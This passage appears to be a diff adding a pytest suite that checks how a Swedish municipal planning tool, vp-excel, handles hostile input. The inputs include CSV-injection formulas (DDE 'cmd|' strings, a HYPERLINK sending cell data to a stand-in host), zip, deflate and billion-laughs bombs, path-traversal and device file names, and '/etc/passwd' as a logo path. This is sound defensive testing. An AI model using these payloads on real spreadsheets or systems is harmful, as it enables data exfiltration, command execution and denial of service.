@@ -1,0 +1,702 @@
+"""Hostile input of the kinds issue 18 fixed, by spellings and routes its own cases never
+used: formulas in every text column of the export and in forms Excel or an input method could
+take for one, bombs in parts beside the sheets and in the Word template, numbers in foreign
+syntax, names no file system takes, Kolada answers of the wrong shape. Each is held the same
+way: one Swedish line (or a clean result), the input unchanged, no half file, no traceback.
+The bombs refused before openpyxl are in the corpus (tests/corpus/make_corpus.py); the ones
+that must be read cheaply are here."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import sys
+import time
+import zipfile
+import zlib
+from pathlib import Path
+
+import openpyxl
+import pytest
+from builders import run_cli as run
+from kolada_server import Server
+from test_bad_input import LEAKS, assert_clean, files_in, snapshot
+from test_kolada_client import NORSJO, _answer, _fake, _local_only, _outcomes, _plan  # noqa: F401
+
+sys.path.insert(0, str(Path(__file__).resolve().parent / "corpus"))
+
+import make_corpus  # noqa: E402
+
+from vp_excel.kolada.client import KoladaClient  # noqa: E402
+from vp_excel.kolada.fetch import fetch_for_plan  # noqa: E402
+from vp_excel.kolada.fill import fill_plan  # noqa: E402
+from vp_excel.swedish import NotANumber, parse_number  # noqa: E402
+from vp_excel.writers.export import starts_a_formula, write_csv  # noqa: E402
+
+# --- CSV injection: every form, every route -------------------------------------------------
+
+# Forms a spreadsheet could evaluate (or an input method turn into one): DDE, @-functions,
+# signs before letters, control characters, spaces or invisible characters before the sign,
+# full-width and small forms.
+FORMULA_FORMS = ["=cmd|' /C calc'!A0", "@SUM(1;2)", "+cmd|' /C notepad'!A0", "-cmd|x",
+                 "-2+3+cmd|' /C calc'!A0", "+A1", "-A1", "\t=1+1", "\r=1+1", "\n=1+1",
+                 " =1+1", "  +1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff@SUM(1)",
+                 "＝1+1", "＋1+1", "－A1", "＠SUM(1)", "﹦1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
+# Words and numbers that stay as they are: a Swedish number is a number, not a formula.
+PLAIN = ["-2,2", "-850 tkr", "-1 000", "-1,2E5", "+5", "Ja", "'=1+1", "|cmd", "DDE(x)",
+         "ＡＢＣ", "−2,2"]
+
+
+@pytest.mark.parametrize("text", FORMULA_FORMS)
+def test_every_formula_form_gets_an_apostrophe_and_quotes(tmp_path, text):
+    import pandas as pd
+
+    assert starts_a_formula(text)
+    path = tmp_path / "ut.csv"
+    write_csv(pd.DataFrame({"KS mål": [text]}), path)
+    field = path.read_bytes().decode("utf-8-sig").split("\r\n", 1)[1][:-2]
+    assert field == '"' + ("'" + text).replace('"', '""') + '"'
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_plain_words_and_swedish_numbers_stay_as_they_are(tmp_path, text):
+    import pandas as pd
+
+    path = tmp_path / "ut.csv"
+    write_csv(pd.DataFrame({"KS mål": [text]}), path)
+    assert path.read_bytes().decode("utf-8-sig") == f"KS mål\r\n{text}\r\n"
+
+
+PERIODS = ("@Delår 1 2025", "-Delår 2 2025")  # period names are the kommun's words too
+ROUTES = {  # placeholder -> the hostile text put in that cell
+    "PH-kf": '=HYPERLINK("http://x.invalid/?"&A1;"Klicka")', "PH-ind": "+cmd|' /C calc'!A0",
+    "PH-src": "＝1+1 Kolada", "PH-ks": "\u200b=1+1", "PH-mi": "@SUM(1;2)",
+    "PH-enh": "-cmd|x", "PH-ks2": "﹦2+2", "PH-mot": "-x"}
+
+
+def _every_text_column_workbook(path: Path, verksamhet: str | None) -> Path:
+    goals = [{"KF ÖG mål": "PH-kf", "KF indikator": "PH-ind", "Styrgräns": "6%",
+              "Källa": "PH-src", "KS mål": "PH-ks", "Målvärde": "5%",
+              "Regel": "Lägre är bättre", "Målinriktning": "PH-mi", "Ansvarig enhet": "PH-enh",
+              f"Utfall {PERIODS[0]}": "5,3%", f"Utfall {PERIODS[1]}": "5,2%",
+              f"Indikatorutfall {PERIODS[1]}": 0.05},
+             {"KF ÖG mål": "PH-kf", "KS mål": "PH-ks2", "Regel": "Manuell",
+              f"Bedömning {PERIODS[1]}": "GUL", f"Motivering {PERIODS[1]}": "PH-mot"}]
+    make_corpus.build_valid_workbook(path, goals=goals, periods=PERIODS, activities=[])
+    book = openpyxl.load_workbook(path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value in ROUTES:
+                    cell.value, cell.data_type = ROUTES[cell.value], "s"
+    settings = book["Inställningar"]
+    settings["B2"], settings["B2"].data_type = "=1+1 kommun", "s"
+    settings["B3"] = verksamhet
+    if verksamhet is not None:
+        settings["B3"].data_type = "s"
+    book.save(path)
+    return path
+
+
+# The verksamhet from the settings, or (none there) from a file name that is itself a formula.
+@pytest.mark.parametrize("verksamhet, file_name", [
+    ("@verksamhet", "plan.xlsx"), (None, "=cmd|' calc'!A0.xlsx")])
+def test_no_route_into_the_export_makes_a_formula(tmp_path, verksamhet, file_name):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    source = _every_text_column_workbook(folder / file_name, verksamhet)
+    before = snapshot(folder)
+    out = tmp_path / "ut"
+    out.mkdir()
+    result = run("export", source, "--csv", out / "mal.csv", "--xlsx", out / "mal.xlsx")
+    assert_clean(result)
+    assert result.exit_code == 0, result.output
+    assert snapshot(folder) == before
+    rows = list(csv.reader(io.StringIO((out / "mal.csv").read_text(encoding="utf-8-sig"),
+                                       newline=""), delimiter=";"))
+    fields = [field for row in rows[1:] for field in row]
+    # Every hostile text arrived (so the test proves something) and each one escaped.
+    exported = [ROUTES[k] for k in ("PH-kf", "PH-ind", "PH-src", "PH-ks", "PH-ks2")]
+    for text in [*exported, "=1+1 kommun", *PERIODS]:
+        assert "'" + text in fields, (text, rows[1])
+    assert not [f for f in fields if starts_a_formula(f)], rows
+    header = rows[0]
+    verksamheter = {row[header.index("verksamhet")] for row in rows[1:]}
+    assert verksamheter == {"'" + (verksamhet or Path(file_name).stem)}
+    # The Excel table: a text cell stays text, whatever it begins with.
+    sheet = openpyxl.load_workbook(out / "mal.xlsx").active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert {c.data_type for c in cells} <= {"s", "n"}
+    assert {c.value for c in cells} >= set(exported)
+
+
+@pytest.mark.skipif(__import__("vp_excel.libreoffice", fromlist=["find_soffice"])
+                    .find_soffice() is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_finds_no_formula_in_any_form(tmp_path):
+    import pandas as pd
+    from test_export import _libreoffice_cells
+
+    path = tmp_path / "former.csv"
+    write_csv(pd.DataFrame({"text": FORMULA_FORMS + PLAIN}), path)
+    cells = _libreoffice_cells(path, tmp_path)
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert len(cells) > len(FORMULA_FORMS)  # it read the file
+
+
+# --- bombs that must be read cheaply ----------------------------------------------------------
+# Each costs openpyxl nothing in proportion to what it claims (measured: under 1 s and 150 MB
+# each); the reader must neither refuse them nor blow up.
+
+def _cols(xml: str, cols: str) -> str:
+    xml = re.sub(r"<cols>.*?</cols>", "", xml, flags=re.S)
+    return xml.replace("<sheetData", cols + "<sheetData", 1)
+
+
+HARMLESS = [
+    ("dimension_of_the_whole_sheet", lambda xml: re.sub(
+        r"<dimension ref=\"[^\"]*\"/>", '<dimension ref="A1:XFD1048576"/>', xml)),
+    ("one_column_range_styled_over_16384_columns", lambda xml: _cols(
+        xml, '<cols><col min="1" max="16384" width="30" style="1" customWidth="1"/></cols>')),
+    ("16384_styled_columns", lambda xml: _cols(xml, "<cols>" + "".join(
+        f'<col min="{n}" max="{n}" width="9" style="1" customWidth="1"/>'
+        for n in range(1, 16385)) + "</cols>")),
+    ("a_styled_row_at_the_last_row", lambda xml: xml.replace(
+        "</sheetData>", '<row r="1048576" spans="1:16384" ht="30" customHeight="1" s="1" '
+        'customFormat="1"><c r="XFD1048576" s="1"/></row></sheetData>', 1)),
+    ("huge_spans", lambda xml: re.sub(r'<row r="(\d+)"', r'<row r="\1" spans="1:999999999"',
+                                      xml)),
+    ("nesting_100000_deep", lambda xml: xml.replace(  # under the sheet-structure budget
+        "</worksheet>", "<extLst>" + "<ext uri='x'>" * 100_000 + "</ext>" * 100_000
+        + "</extLst></worksheet>", 1)),
+]
+
+
+@pytest.mark.parametrize("name, change", HARMLESS, ids=[n for n, _c in HARMLESS])
+def test_a_harmless_oddity_is_read_cheaply(tmp_path, name, change):
+    folder = tmp_path / "in"
+    path = make_corpus.write_base(folder)
+    make_corpus.edit_sheet_xml(path, "Mål", change)
+    before = snapshot(folder)
+    result = run("check", path)
+    assert_clean(result, "0 fel")
+    assert result.exit_code == 0
+    assert snapshot(folder) == before
+
+
+def test_thousands_of_tiny_parts_under_the_limit_read(tmp_path):
+    folder = tmp_path / "in"
+    path = make_corpus.write_base(folder)
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        for n in range(9_000):
+            archive.writestr(f"xl/media/t{n}.bin", b"x")
+    result = run("check", path)
+    assert_clean(result, "0 fel")
+    assert result.exit_code == 0
+
+
+# --- the Word template given with --mall: a .docx is a zip too --------------------------------
+
+
+def _template(folder: Path) -> Path:
+    import docx
+
+    path = folder / "mall.docx"
+    document = docx.Document()
+    document.add_paragraph("Kommunens mall")
+    document.save(path)
+    return path
+
+
+def _link_media(path: Path, member: str) -> None:
+    """`member` linked from the document as an image, so python-docx loads it."""
+    make_corpus.rewrite_member(path, "word/_rels/document.xml.rels", lambda data: data.replace(
+        b"</Relationships>", b'<Relationship Id="rIdHostile" Type="http://schemas.openxmlformats'
+        b'.org/officeDocument/2006/relationships/image" Target="' + member.encode()
+        + b'"/></Relationships>'))
+
+
+def _template_zero_bomb(path: Path) -> None:
+    _link_media(path, "media/nollor.bin")
+    make_corpus.add_compressed_member(path, "word/media/nollor.bin", b"\0" * (24 << 20))
+
+
+def _template_size_lie(path: Path) -> None:
+    _link_media(path, "media/nollor.bin")
+    make_corpus.add_compressed_member(path, "word/media/nollor.bin", b"\0" * (8 << 20))
+    with zipfile.ZipFile(path) as archive:
+        compressed = archive.getinfo("word/media/nollor.bin").compress_size
+    make_corpus.patch_declared_size(path, "word/media/nollor.bin", compressed * 2)
+
+
+def _template_many_parts(path: Path) -> None:
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        for n in range(24):
+            archive.writestr(f"word/media/del{n}.bin", b"\0" * 9_500_000)
+
+
+def _template_duplicate(path: Path) -> None:
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("word/document.xml", b"<x/>")
+
+
+def _template_billion_laughs(path: Path) -> None:
+    make_corpus.rewrite_member(path, "word/document.xml", lambda data: make_corpus._with_doctype(
+        data.decode("utf-8")).replace("Kommunens mall", "&lol9;").encode("utf-8"))
+
+
+def _template_million_paragraphs(path: Path) -> None:
+    make_corpus.rewrite_member(path, "word/document.xml", lambda data: data.replace(
+        b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_100_000, 1))
+
+
+def _template_not_a_zip(path: Path) -> None:
+    path.write_bytes(b"PK\x03\x04" + b"\0" * 100)
+
+
+TEMPLATES = [
+    ("zero_bomb_linked_as_an_image", _template_zero_bomb, "mallen vägras som skydd"),
+    ("size_lie_linked_as_an_image", _template_size_lie, "mallen är inget Word-dokument"),
+    ("many_parts_each_under_the_bomb_rule", _template_many_parts, "mallens delar packas"),
+    ("duplicate_member_names", _template_duplicate, "mallen är inget Word-dokument"),
+    ("billion_laughs", _template_billion_laughs, "XML-bomb"),
+    ("a_million_paragraphs", _template_million_paragraphs, "000 XML-element (delen word"),
+    ("a_broken_zip", _template_not_a_zip, "mallen är inget Word-dokument"),
+]
+
+
+@pytest.mark.parametrize("name, damage, fragment", TEMPLATES, ids=[t[0] for t in TEMPLATES])
+def test_a_hostile_template_is_one_swedish_line_and_no_report(tmp_path, name, damage,
+                                                             fragment: str):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    source = make_corpus.write_base(folder)
+    template = _template(folder)
+    damage(template)
+    before = snapshot(folder)
+    out = tmp_path / "ut"
+    started = time.monotonic()
+    result = run("build", source, "--mall", template, "--bara", "docx", "--out", out)
+    assert time.monotonic() - started < 30  # a bomb took minutes or all memory
+    assert snapshot(folder) == before
+    assert not [p for p in folder.rglob(".vp-excel-*")]
+    text = assert_clean(result, fragment)
+    assert result.exit_code == 1, text
+    line = next(line for line in text.splitlines() if fragment in line)
+    assert line.startswith("vp-excel: ") and "mall.docx" in line, line
+    assert files_in(out) == []
+
+
+# --- numbers: Swedish syntax only -------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text, value", [
+    ("1.000,5", None), ("1 000 000", 1_000_000.0), ("1\u00a0000\u202f000", 1_000_000.0),
+    ("1E5", 100_000.0),  # as Excel reads it typed; Python's lower-case 1e5 is not Swedish
+    ("1e5", None), ("1,2E5", 120_000.0), ("1,2E999", None), ("∞", None), ("-∞", None),
+    ("NaN", None), ("nan", None), ("inf", None), ("Infinity", None), ("−0", 0.0), ("-0", 0.0),
+    ("٣", None), ("٣٫٥", None), ("३", None), ("３", None), ("１,５", None), ("５０%", None),
+    ("²", None), ("5%%", None), ("5 %%", None), ("5٪", None), ("1_000", None), ("0x10", None),
+    ("0b101", None), ("1.000.000", None), ("12 34", None), ("--5", None), ("5-", None),
+    ("1,000", 1.0), ("1 234,5 kr", 1234.5)])
+def test_numbers_are_read_by_swedish_rules_only(text, value):
+    if value is None:
+        with pytest.raises(NotANumber):
+            parse_number(text)
+    else:
+        assert parse_number(text).value == value
+
+
+@pytest.mark.parametrize("text", ["1.000,5", "∞", "NaN", "٣", "３", "5%%", "1_000", "1e5"])
+def test_a_foreign_number_in_an_outcome_cell_is_an_error_on_that_cell(tmp_path, text):
+    folder = tmp_path / "in"
+    path = make_corpus.write_base(folder)
+    spot = make_corpus.layout(path)
+    make_corpus.edit_cells(path, "Mål", {spot.outcome: text})
+    before = snapshot(folder)
+    result = run("check", path)
+    output = assert_clean(result)
+    assert result.exit_code == 1, output
+    assert f"Mål!{spot.outcome}:" in output, output
+    assert snapshot(folder) == before
+
+
+# --- names no file system takes ---------------------------------------------------------------
+
+WINDOWS_RESERVED = re.compile(r"^(con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³])(\.|$)", re.I)
+
+
+def _safe_file_name(name: str) -> bool:
+    return (not any(char in name for char in '/\\:*?"<>|\0') and name == name.rstrip(". ")
+            and not WINDOWS_RESERVED.match(name) and len(name.encode("utf-8")) <= 255)
+
+
+@pytest.mark.parametrize("kommun", ["Väst/Öst", "C:\\Windows", "Kom*mun?", "Nul\0l", "CON",
+                                    "NUL.xlsx", "LPT1", "Kommun. . .", "..", "../../etc",
+                                    "*?", "COM¹"])
+def test_a_kommun_name_no_file_system_takes_still_rolls_up_inside_out(tmp_path, kommun):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    make_corpus.build_valid_workbook(folder / "a.xlsx")
+    book = openpyxl.load_workbook(folder / "a.xlsx")
+    book["Inställningar"]["B2"] = kommun.replace("\0", "")  # openpyxl refuses NUL itself
+    book.save(folder / "a.xlsx")
+    out = tmp_path / "ut"
+    result = run("sammanstall", folder, "--out", out)
+    assert_clean(result)
+    assert result.exit_code == 0, result.output
+    written = [p for p in tmp_path.rglob("*") if p.is_file() and p.parent != folder]
+    assert written and all(p.parent == out for p in written), written
+    assert all(_safe_file_name(p.name) for p in written), [p.name for p in written]
+
+
+@pytest.mark.parametrize("stem", ["CON", "NUL", "LPT1", "aux", "plan. .", "plan\\del",
+                                  "=cmd|' calc'!A0"])
+def test_an_input_named_like_a_device_builds_inside_out(tmp_path, stem):
+    folder = tmp_path / "in"
+    source = make_corpus.write_base(folder, stem + ".xlsx")
+    out = tmp_path / "ut"
+    result = run("build", source, "--out", out, "--bara", "xlsx")
+    assert_clean(result)
+    assert result.exit_code == 0, result.output
+    # The name is the input's own (which this file system took), with the period: inside
+    # --out, never a device name or a name Windows would cut.
+    written = files_in(out)
+    assert len(written) == 1 and not WINDOWS_RESERVED.match(written[0]), written
+    assert written[0] == written[0].rstrip(". ") and (out / written[0]).is_file(), written
+    assert [p.name for p in folder.iterdir()] == [stem + ".xlsx"]
+
+
+# --- Kolada: answers of the wrong shape, and transports that never end ----------------------
+
+
+def _body(values: object, next_url: object = "") -> bytes:
+    import json
+
+    return json.dumps({"values": values, "next_url": next_url}).encode()
+
+
+def _record(**fields) -> dict:
+    return {"kpi": "N00090", "municipality": NORSJO, "period": 2024,
+            "values": [{"gender": "T", "value": 5.8}], **fields}
+
+
+def _stray(**fields) -> dict:
+    """A record that must not be filed anywhere: its value, 9.9, would show where it went."""
+    return _record(values=[{"gender": "T", "value": 9.9}], **fields)
+
+
+def _endless_chunks(handler) -> None:
+    handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                        b"Transfer-Encoding: chunked\r\n\r\n")
+    handler.wfile.write(b'1\r\n{\r\n')
+    while True:
+        handler.wfile.write(b"1\r\n \r\n")
+        handler.wfile.flush()
+        time.sleep(0.05)
+
+
+def _redirect_loop(handler) -> None:
+    _answer(b"", "302 Found", (f"Location: {handler.path}",))(handler)
+
+
+def _long_header(handler) -> None:
+    _answer(_body([_record()]), headers=("X-Lang: " + "a" * 200_000,))(handler)
+
+
+def _deflate_bomb(handler) -> None:
+    packer = zlib.compressobj(9)
+    body = packer.compress(b" " * (40 << 20)) + packer.flush()
+    _answer(body, headers=("Content-Encoding: deflate",))(handler)
+
+
+def _brotli(handler) -> None:
+    _answer(b"\x1b\x03\x00\xf8\xa5\x40\x02", headers=("Content-Encoding: br",))(handler)
+
+
+WRONG_SHAPES = {  # each: the raw answer, and what fill makes of N00090 Helår 2024
+    "a_list_instead_of_an_object": (_answer(b"[1, 2, 3]"), "utan listan values"),
+    "values_null": (_answer(_body(None)), None),
+    "null_everywhere": (_answer(_body([{"kpi": None, "municipality": None, "period": None,
+                                        "values": None}], None)), None),
+    "values_as_a_number": (_answer(_body([_record(values=5)])), None),
+    "values_as_a_string": (_answer(_body([_record(values="5.8")])), None),
+    "value_as_a_string": (_answer(_body([_record(values=[{"gender": "T", "value": "5.8"}])])),
+                          None),
+    "value_as_true": (_answer(_body([_record(values=[{"gender": "T", "value": True}])])), None),
+    "a_record_that_is_a_list": (_answer(_body([[1, 2], "x", 3])), None),
+    "ids_of_other_kpis": (_answer(_body([_stray(kpi="N99999")])), None),
+    "another_kommun": (_answer(_body([_stray(municipality="0180")])), None),
+    "a_year_far_away": (_answer(_body([_stray(period=99_999)])), None),
+    "a_year_as_a_fraction": (_answer(_body([_stray(period=2024.5)])), None),
+    "a_year_as_true": (_answer(_body([_stray(period=True)])), None),
+    "a_year_as_a_string_with_a_fraction": (_answer(_body([_stray(period="2024.5")])), None),
+    "a_year_of_2024_and_a_bit": (_answer(_body([_stray(period=2024.0000001)])), None),
+    "next_url_as_an_object": (_answer(_body([], {"url": "x"})), "next_url som inte är"),
+    "a_chunked_body_that_never_ends": (_endless_chunks, "svarade inte inom"),
+    "a_redirect_loop": (_redirect_loop, "skickade vidare fler än"),
+    "a_very_long_header_line": (_long_header, "Kolada"),
+    "a_deflate_bomb": (_deflate_bomb, "större än 32 MB"),
+    "brotli": (_brotli, "Kolada"),
+    "a_proxy_error": (_answer(b"", "407 Proxy Authentication Required"), "Kolada svarade 407"),
+}
+
+
+@pytest.mark.parametrize("name", list(WRONG_SHAPES))
+def test_a_kolada_answer_of_the_wrong_shape_fills_nothing_wrong(cache_dir, name):
+    raw, expected = WRONG_SHAPES[name]
+    plan = _plan()
+    started = time.monotonic()
+    with Server(_fake(raw={"/data/": raw})) as url:
+        fetch = fetch_for_plan(plan, client=KoladaClient(url, timeout=1, retries=1,
+                                                         backoff=0.01))
+    assert time.monotonic() - started < 15
+    report = fill_plan(plan, fetch)
+    lines = [str(p) for p in report.problems] + list(fetch.messages)
+    for line in lines:
+        assert not any(leak in line for leak in LEAKS if leak != "Error:"), line
+    if expected is not None:
+        assert [line for line in fetch.messages if expected in line], fetch.messages
+        assert len([m for m in fetch.messages if "Kolada:" in m]) == 1, fetch.messages
+    # Nothing but the value Kolada really gave for N00090, 2024 (5.8 %) is ever filled.
+    filled = {(name, period): value for name, outcomes in _outcomes(plan).items()
+              for period, value in outcomes.items() if value is not None}
+    assert all(value == pytest.approx(0.058) for value in filled.values()), filled
+    assert all(not p.is_error for p in report.problems)
+
+
+@pytest.fixture
+def cache_dir(tmp_path, monkeypatch):
+    folder = tmp_path / "cache"
+    monkeypatch.setenv("VP_EXCEL_CACHE_DIR", str(folder))
+    return folder
+
+
+def test_only_what_was_asked_for_is_cached(cache_dir):
+    from vp_excel.kolada.cache import KoladaCache
+
+    answer = _body([_record(kpi="N99999"), _record(period=2031), _stray(municipality="0180")])
+    with Server(_fake(raw={"/data/": _answer(answer)})) as url:
+        fetch_for_plan(_plan(), client=KoladaClient(url, timeout=5))
+    cache = KoladaCache()
+    assert cache.get_value("N99999", NORSJO, 2024) is None
+    assert cache.get_value("N00090", NORSJO, 2031) is None
+    assert not (cache_dir / "values" / "0180").exists()
+
+
+def test_zip64_helpers_make_what_they_say(tmp_path):
+    """The corpus's zip64 lie is read by zipfile as the size it declares (else the case
+    would test nothing)."""
+    case = make_corpus.CASES["zip64_header_lying_large"](tmp_path)
+    with zipfile.ZipFile(case.path) as archive:
+        assert archive.getinfo("xl/media/z.bin").file_size == 1 << 60
+
+
+# --- the same bombs through the other commands that read workbooks ---------------------------
+
+NEW_BOMBS = ["styled_empty_rows", "conditional_formats_in_thousands",
+             "sheet_views_in_hundreds_of_thousands",
+             "defined_names_in_thousands", "comments_in_thousands", "pivot_cache_records",
+             "external_link_with_a_cached_book", "duplicate_member_names",
+             "zip64_header_lying_large"]
+
+
+@pytest.mark.parametrize("command", ["sammanstall", "export", "init --fran"])
+@pytest.mark.parametrize("name", NEW_BOMBS)
+def test_a_new_bomb_is_refused_by_every_command_that_reads(tmp_path, name, command):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    case = make_corpus.CASES[name](folder)
+    before = snapshot(folder)
+    out = tmp_path / "ut"
+    out.mkdir()
+    args = {"sammanstall": ["sammanstall", case.path, "--out", out],
+            "export": ["export", case.path, "--csv", out / "mal.csv", "--xlsx", out / "mal.xlsx"],
+            "init --fran": ["init", "--fran", case.path, out / "ny.xlsx"]}[command]
+    result = run(*args)
+    text = assert_clean(result, case.fragment)
+    assert result.exit_code == 1, text
+    line = next(line for line in text.splitlines() if case.fragment in line)
+    assert line.startswith("vp-excel: ") and case.path.name in line, line
+    assert snapshot(folder) == before
+    assert files_in(out) == []
+
+
+# --- one line: workbook text quoted in a message never breaks it -----------------------------
+
+
+@pytest.mark.parametrize("typed", ["abc\nfel: falsk rad", "abc\r\nvp-excel: klart",
+                                   "abc\u2028fel: x", "abc\x0bfel: x", "abc\x85fel: x"])
+def test_a_line_break_in_a_quoted_cell_keeps_the_message_on_one_line(tmp_path, typed):
+    folder = tmp_path / "in"
+    path = make_corpus.write_base(folder)
+    spot = make_corpus.layout(path)
+    make_corpus.edit_cells(path, "Mål", {spot.outcome: "PLACEHOLDER"})
+    make_corpus.edit_sheet_xml(path, "Mål", lambda xml: xml.replace(  # escaped as Excel does
+        "PLACEHOLDER", typed.replace("\n", "&#10;").replace("\r", "&#13;")
+        .replace("\x0b", "_x000B_")))
+    result = run("check", path)
+    text = assert_clean(result)
+    assert result.exit_code == 1, text
+    lines = [line for line in text.splitlines() if "abc" in line]
+    assert len(lines) == 1 and f"Mål!{spot.outcome}:" in lines[0], text
+    assert not [line for line in text.splitlines() if line.startswith(("fel: x", "fel: falsk",
+                                                                       "vp-excel: klart"))]
+
+
+def test_a_file_name_with_a_line_break_is_named_on_one_line(tmp_path):
+    path = tmp_path / "plan\nfel: falsk.xlsx"
+    path.write_bytes(b"inte en arbetsbok")
+    result = run("check", path)
+    text = assert_clean(result)
+    assert result.exit_code == 1
+    assert len([line for line in text.splitlines() if line.strip()]) == 1, text
+
+
+@pytest.mark.parametrize("first, second", [("Håbo", "Hébo"), ("Malå", "Malö"),
+                                           ("CON", "con_"), ("K" * 300, "K" * 299 + "L")])
+def test_two_names_never_share_a_cache_file(tmp_path, first, second):
+    from vp_excel.kolada.cache import KoladaCache
+
+    cache = KoladaCache(tmp_path)
+    cache.put_kommun(first, "0001", first)
+    cache.put_kommun(second, "0002", second)
+    assert cache.write_failed == ""
+    assert cache.get_kommun(first)["id"] == "0001"
+    assert cache.get_kommun(second)["id"] == "0002"
+    names = [p.stem for p in (tmp_path / "municipality").iterdir()]
+    assert len(names) == 2 and not [n for n in names if WINDOWS_RESERVED.match(n)], names
+
+
+# --- a file the workbook names: the logo -------------------------------------------------------
+
+
+def _logo_link_to_zero(folder: Path) -> str:
+    (folder / "logo.png").symlink_to("/dev/zero")
+    return "logo.png"
+
+
+def _logo_pipe(folder: Path) -> str:
+    import os
+
+    os.mkfifo(folder / "logo.png")
+    return "logo.png"
+
+
+def _logo_huge(folder: Path) -> str:
+    with open(folder / "logo.png", "wb") as stream:
+        stream.truncate(21 * 1024 * 1024)  # sparse: 21 MB without writing them
+    return "logo.png"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="links to devices and pipes are POSIX")
+@pytest.mark.parametrize("make", [_logo_link_to_zero, _logo_pipe, _logo_huge,
+                                  lambda folder: "/etc/passwd", lambda folder: "/dev/zero"],
+                         ids=["link_to_dev_zero", "a_pipe", "21_mb", "etc_passwd", "dev_zero"])
+def test_a_logo_that_is_no_image_file_is_a_warning_and_the_reports_are_written(tmp_path, make):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    source = make_corpus.build_valid_workbook(folder / "plan.xlsx")
+    book = openpyxl.load_workbook(source)
+    book["Inställningar"].append(["Logotyp", make(folder)])
+    book.save(source)
+    out = tmp_path / "ut"
+    result = run("build", source, "--html", "--out", out)
+    text = assert_clean(result, "Logotypen")
+    assert result.exit_code == 0, text
+    assert sorted(p.suffix for p in out.iterdir()) == [".docx", ".html", ".xlsx"]
+    assert max(p.stat().st_size for p in out.iterdir()) < 5_000_000
+
+
+# --- the kommun's words as COUNTIFS criteria in the roll-up workbook -------------------------
+
+# Names COUNTIFS would read as wildcards ("*", "?", "~") or comparisons ("<>", ">=") if they
+# were criteria as written ("K*" counted every verksamhet's goals, "<>x" every goal), and one
+# past COUNTIFS's 255 characters.
+CRITERIA_NAMES = [("a.xlsx", "K*", "<>x"), ("b.xlsx", "Kultur", "Kul?ur ~ett mål"),
+                  ("c.xlsx", "Kost?", ">=Ekonomi " + "och ett långt mål " * 16)]
+
+
+@pytest.mark.skipif(__import__("vp_excel.libreoffice", fromlist=["find_soffice"])
+                    .find_soffice() is None, reason="LibreOffice (soffice) is not installed")
+def test_names_that_look_like_wildcards_count_only_themselves_after_recalculation(tmp_path):
+    from helpers_edge_cases import poison_cached_values
+
+    from vp_excel.libreoffice import recalculate_xlsx
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for file_name, verksamhet, kf in CRITERIA_NAMES:
+        path = make_corpus.build_valid_workbook(folder / file_name)
+        book = openpyxl.load_workbook(path)
+        book["Inställningar"]["B3"] = verksamhet
+        for row in book["Mål"].iter_rows():
+            for cell in row:
+                if cell.value == "En attraktiv arbetsgivare":
+                    cell.value, cell.data_type = kf, "s"
+        book.save(path)
+    result = run("sammanstall", folder, "--out", tmp_path / "ut")
+    assert result.exit_code == 0, result.output
+    written = next((tmp_path / "ut").glob("*.xlsx"))
+    poisoned = poison_cached_values(written, tmp_path / "poisoned.xlsx")
+    again = openpyxl.load_workbook(recalculate_xlsx(poisoned, tmp_path / "rc"), data_only=True)
+    before = openpyxl.load_workbook(written, data_only=True)
+    differ = [(ws.title, cell.coordinate, cell.value, again[ws.title][cell.coordinate].value)
+              for ws in before.worksheets for row in ws.iter_rows() for cell in row
+              if cell.value not in ("", None) and again[ws.title][cell.coordinate].value
+              != (pytest.approx(cell.value) if isinstance(cell.value, float) else cell.value)]
+    assert differ == []
+    counts = [c.value for c in before["Per verksamhet"]["F"] if isinstance(c.value, int)]
+    assert counts == [3, 3, 3]  # each verksamhet its own three goals (the test means it)
+
+
+@pytest.mark.parametrize("command", ["check", "sammanstall"])
+def test_a_line_break_in_a_goal_name_stays_on_its_line(tmp_path, command):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    path = make_corpus.build_valid_workbook(folder / "plan.xlsx")
+    make_corpus.edit_sheet_xml(path, "Mål", lambda xml: xml.replace(
+        "<t>En attraktiv arbetsgivare</t>", "<t>En attraktiv&#10;fel: falsk rad</t>"))
+    args = [command, path] if command == "check" else [command, folder, "--out", tmp_path / "u"]
+    result = run(*args)
+    text = assert_clean(result, "En attraktiv fel: falsk rad")
+    assert result.exit_code == 0, text
+    assert not [line for line in text.splitlines() if line.startswith("fel: falsk")], text
+
+
+@pytest.mark.parametrize("records, value", [
+    ([_record(), _record()], 0.058),  # the same value twice is one value
+    ([_record(), _stray()], None),  # two different ones: neither is trusted
+    ([_record(values=[{"gender": "T", "value": 5.8}, {"gender": "T", "value": 9.9}])], None),
+    ([_stray(), _record(), _record()], None)])
+def test_a_value_given_twice_with_different_numbers_is_no_value_and_said(cache_dir, records,
+                                                                        value):
+    from vp_excel.kolada.cache import KoladaCache
+
+    plan = _plan()
+    with Server(_fake(raw={"/data/": _answer(_body(records))})) as url:
+        fetch = fetch_for_plan(plan, client=KoladaClient(url, timeout=5))
+    fill_plan(plan, fetch)
+    assert plan.indicators[0].measure.outcomes["Helår 2024"] == (
+        None if value is None else pytest.approx(value))
+    said = [m for m in fetch.messages if "kom två gånger med olika tal (N00090 2024)" in m]
